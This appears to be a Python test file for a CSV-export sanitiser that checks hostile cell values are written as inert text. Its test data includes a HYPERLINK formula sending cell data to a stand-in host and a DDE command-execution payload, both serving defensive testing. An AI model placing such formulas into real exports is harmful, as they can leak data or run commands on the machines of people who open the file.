"""Cells of a CSV file: whoever wrote them, a spreadsheet reads text."""

import csv
import io
from datetime import UTC, datetime, timedelta, timezone

import pytest
from hypothesis import given
from hypothesis import strategies as st

from webhooks_app.rules.cells import FORMULA, cell, row

HOSTILE = [
    "=1+1",
    '=HYPERLINK("https://evil.example/?"&A1)',
    "+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "＝1+1",
    "\x00=1+1",
    "\ufeff=1+1",
    "\u202e=1+1",
    "name;=1+1",
    "name; -1",
    "\";=cmd|' /C calc'!A0;\"",
]


def begins(text):
    """What a spreadsheet may take for the beginning of a cell: also behind a semicolon."""
    return [part.lstrip()[:1] for part in text.split(";")]


@pytest.mark.parametrize("text", HOSTILE)
def test_what_would_begin_a_formula_is_text(text):
    made = cell(text)
    assert not set(begins(made)) & set(FORMULA)
    assert not set(made) & set("\t\r\n\0\u202e\ufeff"), "nothing that acts unseen"


@pytest.mark.parametrize(
    ("value", "text"),
    [
        (None, ""),
        (True, "yes"),
        (0, "0"),
        (1201, "1201"),
        (2.5, "2.5"),
        ("Größe 😀", "Größe 😀"),
        ("a-b", "a-b"),
        ("1;2", "1;2"),
        ("-", "'-"),
        (datetime(2026, 11, 30, 9, 8, 7, 999, tzinfo=UTC), "2026-11-30 09:08:07"),
        (datetime(2026, 11, 30, 9, tzinfo=timezone(timedelta(hours=2))), "2026-11-30 07:00:00"),
    ],
)
def test_other_values_stay_what_they_are(value, text):
    assert cell(value) == text


@given(st.lists(st.text(max_size=40), min_size=1, max_size=5))
def test_any_text_is_one_line_of_as_many_cells_none_of_them_a_formula(values):
    line = row(values).decode()
    assert line.endswith("\r\n")
    assert line.count("\n") == 1
    [cells] = csv.reader(io.StringIO(line))
    assert len(cells) == len(values)
    assert not {start for made in cells for start in begins(made)} & set(FORMULA)
